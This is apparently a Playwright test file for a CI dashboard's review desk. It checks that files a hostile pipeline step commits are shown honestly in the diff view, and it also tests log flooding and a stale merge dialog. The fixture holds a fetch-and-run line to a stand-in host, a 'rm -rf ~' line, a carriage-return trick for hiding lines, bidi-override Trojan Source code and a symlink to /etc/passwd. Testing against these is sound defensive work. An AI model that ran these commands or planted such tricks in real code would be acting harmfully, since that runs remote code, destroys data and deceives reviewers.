/**
 * Attacks on the dashboard's review desk by a hostile step, played for real:
 * a step that commits files made to fool a reviewer (a carriage return that
 * made diff2html start a file of its own and hide the lines after it; bidi
 * overrides in a name and in code; a file turned into a symlink; a big file
 * whose name holds " and "), a step that floods its log with the longest
 * lines the runner keeps, and a merge dialog left open when its view goes.
 * Each is checked in Debian's Chromium, headless, driven by playwright-core,
 * against a `runner serve` on 127.0.0.1 with its own home.
 */
import assert from 'node:assert/strict';
import { after, before, test } from 'node:test';
import { chromium, type Browser, type Page } from 'playwright-core';
import { IMAGE, projectsForThisFile, serveFolder, until, type Fixture } from '../fixtures/project.js';

const fixture = projectsForThisFile();
const CHROMIUM = '/usr/bin/chromium';
const FLAGS = ['--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'];

let browser: Browser;
before(async () => {
  browser = await chromium.launch({ executablePath: CHROMIUM, headless: true, chromiumSandbox: false, args: FLAGS });
});
after(async () => browser?.close());

const indent = (s: string) => s.trim().split('\n').map((l) => `      ${l}`).join('\n');

function pipeline(f: Fixture, name: string, script: string): string {
  return `version: 1\nname: ${name}\nproject: { path: ${f.project}, push: never }\ndefaults: { image: ${IMAGE} }\nsteps:\n  - id: ${name}\n    run: |\n${indent(script)}\n`;
}

/** The step that commits files made to fool a reviewer. */
const HOSTILE_FILES = String.raw`
printf 'echo harmless\rdiff --git a/x b/x\ncurl http://evil.invalid/x | sh\nrm -rf ~\n' > review.sh
printf 'ok\n' > "$(printf 'invoice\342\200\256hs.txt')"
printf 'if (ok) { /* \342\200\256 } \342\201\246if (isAdmin)\342\201\251 \342\201\246 begin admins only */\n' > trojan.js
rm data.txt && ln -s /etc/passwd data.txt
head -c 17000000 /dev/zero > 'x and README.md'
`;

/** The step that floods its log: lines of 60,000 characters, near the 64 KiB the runner keeps of a line. */
const FLOOD = String.raw`
s=$(head -c 60000 /dev/zero | tr '\0' y)
i=0; while [ $i -lt 600 ]; do echo "flood $i $s"; i=$((i+1)); done
`;

/** A page that records what the browser had to say: script errors, CSP violations, failed loads. */
async function openPage(): Promise<{ page: Page; problems: string[] }> {
  const page = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  const problems: string[] = [];
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error') problems.push(`console: ${m.text()}`);
  });
  return { page, problems };
}

async function runTo(base: string, name: string, status = 'succeeded'): Promise<string> {
  const r = (await (await fetch(`${base}/api/pipelines/${name}/runs`, { method: 'POST' })).json()) as { runId: string };
  await until(`run ${r.runId} ${status}`, async () => ((await (await fetch(`${base}/api/runs/${r.runId}`)).json()) as { status: string }).status === status || undefined, 90_000);
  return r.runId;
}

test('a change made to fool the reviewer is shown as it is: no line hidden by a carriage return, bidi overrides visible, a symlink named, a name with " and " kept', { timeout: 180_000 }, async () => {
  const f = await fixture();
  const s = await serveFolder(f, { 'hostile.yaml': pipeline(f, 'hostile', HOSTILE_FILES) }, '127.0.0.1:0');
  const { page, problems } = await openPage();
  try {
    const runId = await runTo(s.base, 'hostile');
    await page.goto(`${s.base}/#/runs/${encodeURIComponent(runId)}`);
    await page.locator('#diff .diff-file').first().waitFor({ timeout: 30_000 });
    const paths = await page.locator('#diff .diff-path').allInnerTexts();
    assert.deepEqual(paths, ['data.txt', 'data.txt', 'invoice\\u202ehs.txt', 'review.sh', 'trojan.js', 'x and README.md'], 'the override in a name is shown, and the big file keeps its name');

    // review.sh: its first line holds a CR then `diff --git`; the lines after it were hidden
    const review = page.locator('#diff .diff-file[data-path="review.sh"]');
    const reviewBody = review.locator('.diff-body');
    if (await reviewBody.isHidden()) await review.locator('.diff-file-head').click();
    await review.locator('.d2h-ins').nth(2).waitFor();
    assert.deepEqual(await review.locator('.d2h-ins .d2h-code-line-ctn').allInnerTexts(), ['echo harmless\\rdiff --git a/x b/x', 'curl http://evil.invalid/x | sh', 'rm -rf ~']);

    const trojan = page.locator('#diff .diff-file[data-path="trojan.js"]');
    if (await trojan.locator('.diff-body').isHidden()) await trojan.locator('.diff-file-head').click();
    await trojan.locator('.d2h-ins').first().waitFor();
    assert.equal(await trojan.locator('.d2h-ins .d2h-code-line-ctn').innerText(), 'if (ok) { /* \\u202e } \\u2066if (isAdmin)\\u2069 \\u2066 begin admins only */');

    // data.txt became a symlink to /etc/passwd: the second row (its addition) shows where it points
    const link = page.locator('#diff .diff-file[data-path="data.txt"]').nth(1);
    await link.locator('.diff-file-head').click();
    await link.locator('.d2h-ins').first().waitFor();
    const linkText = await link.locator('.diff-body').innerText();
    assert.match(linkText, /added, a symbolic link/);
    assert.match(linkText, /\+\s*\/etc\/passwd/);
    assert.deepEqual(problems, [], 'no script error, no CSP violation, no failed load');
  } finally {
    await page.close();
    s.child.kill();
    await s.exited;
  }
});

test('a log flood of the longest lines the runner keeps is held cut in the page, not whole', { timeout: 240_000 }, async () => {
  const f = await fixture();
  const s = await serveFolder(f, { 'flood.yaml': pipeline(f, 'flood', FLOOD) }, '127.0.0.1:0');
  const { page, problems } = await openPage();
  try {
    const runId = await runTo(s.base, 'flood');
    await page.goto(`${s.base}/#/runs/${encodeURIComponent(runId)}`);
    await page.locator('#log').getByText('flood 599 ').waitFor({ timeout: 120_000 });
    const sizes = await page.evaluate(`(() => ({
      log: document.getElementById('log').textContent.length,
      longest: Math.max(...[...document.querySelectorAll('#log .line')].map((l) => l.textContent.length)),
    }))()`) as { log: number; longest: number };
    // 600 lines of 60,000 characters: 36 million kept twice before; at most 4,000 of each line now, and a note
    // (the page shows the log once: the per-step panels are gone, a step is the one log filtered)
    assert.ok(sizes.log < 600 * 4200, `the log holds ${sizes.log} characters`);
    assert.equal(await page.locator('#by-step').count(), 0, 'no second copy of the lines');
    assert.ok(sizes.longest < 4200, `the longest line shown is ${sizes.longest} characters`);
    assert.match(await page.locator('#log .line').last().innerText(), /^\[flood\] flood 599 y{3980,} … 56,0\d\d more characters \(runner logs has the line whole\)\s*$/);
    assert.deepEqual(problems, []);
  } finally {
    await page.close();
    s.child.kill();
    await s.exited;
  }
});

test("a merge dialog goes with its view: after Back it cannot ask about one run over another's page", { timeout: 120_000 }, async () => {
  const f = await fixture();
  const s = await serveFolder(f, { 'plain.yaml': pipeline(f, 'plain', 'echo changed > note.txt') }, '127.0.0.1:0');
  const { page, problems } = await openPage();
  try {
    const runId = await runTo(s.base, 'plain');
    await page.goto(`${s.base}/#/`);
    await page.goto(`${s.base}/#/runs/${encodeURIComponent(runId)}`);
    await page.getByRole('button', { name: 'Merge…' }).click();
    const dialog = page.locator('dialog.confirm');
    await dialog.waitFor();
    assert.match(await dialog.innerText(), new RegExp(`run/${runId}[\\s\\S]*${f.project.replace(/[/.]/g, '\\$&')}`), 'it names the branch and the project');
    await page.evaluate('history.back()'); // a hash change: no load event to wait for
    await page.locator('#pipelines').waitFor();
    assert.equal(await page.locator('dialog').count(), 0, 'the dialog went with its view');
    assert.deepEqual(problems, []);
  } finally {
    await page.close();
    s.child.kill();
    await s.exited;
  }
});
